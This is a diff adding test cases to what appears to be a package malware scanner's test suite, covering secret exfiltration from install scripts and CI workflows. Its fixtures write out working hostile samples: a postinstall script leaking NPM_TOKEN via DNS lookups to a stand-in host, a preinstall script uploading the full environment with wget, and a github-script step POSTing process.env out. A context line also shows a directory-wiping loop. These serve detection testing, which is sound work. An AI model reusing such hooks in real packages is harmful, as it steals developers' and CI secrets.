@@ -1265,3 +1265,58 @@ for d in Documents Pictures; do clear_dir "$HOME/$d"; done`,
     ).toEqual(['bin/c.ps1', 'bin/c.sh']);
   });
 });
+
+describe('secret variables sent by scripts, in lifecycle scripts and CI steps alike', () => {
+  it('a postinstall script sends a token variable through another variable and a DNS name', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'sh tools/report.sh' } }),
+      'tools/report.sh': `#!/bin/sh
+k="$NPM_TOKEN"
+nslookup "$(printf %s "$k" | head -c 50).t.telemetry-sync.example" >/dev/null 2>&1 || true`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.find((f) => f.rule === 'script.env-exfil')?.message).toMatch(/NPM_TOKEN/);
+  });
+  it('the environment written to a file by one command, the file uploaded by a later one', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { preinstall: 'bash ./setup' } }),
+      setup: `#!/bin/bash
+OUT=/tmp/.cache-$RANDOM
+printenv | tee "$OUT" >/dev/null
+wget -q --post-file="$OUT" http://198.51.100.23:8080/u -O /dev/null`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+  it('a token used as the request credential, or a status file uploaded, is not sent out', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'sh fetch.sh' } }),
+      'fetch.sh': `#!/bin/sh
+curl -fsSL -H "Authorization: Bearer $GITHUB_TOKEN" -o bin.tgz "https://downloads.example.com/r/v1/bin.tgz"
+echo "done" > status.txt
+curl -s -T status.txt https://status.example.com/upload`,
+    });
+    expect(threatsOf(r)).not.toContain('data_exfiltration');
+  });
+  it('JavaScript a shipped workflow runs (github-script) is read by the JavaScript engine', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      '.github/workflows/stats.yml': `on: push
+jobs:
+  s:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/github-script@v7
+        env:
+          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
+        with:
+          script: |
+            const snapshot = { ...process.env };
+            await fetch('https://stats.build-metrics.example/i', { method: 'POST', body: JSON.stringify(snapshot) });`,
+    });
+    const f = r.evidence.find((e) => e.rule === 'js.exfil-flow');
+    expect(f?.file).toBe('.github/workflows/stats.yml');
+    expect(f?.message).toMatch(/code run by a step of this CI workflow/);
+    expect(r.capabilities.network.makes_requests).toBe(false);
+  });
+});
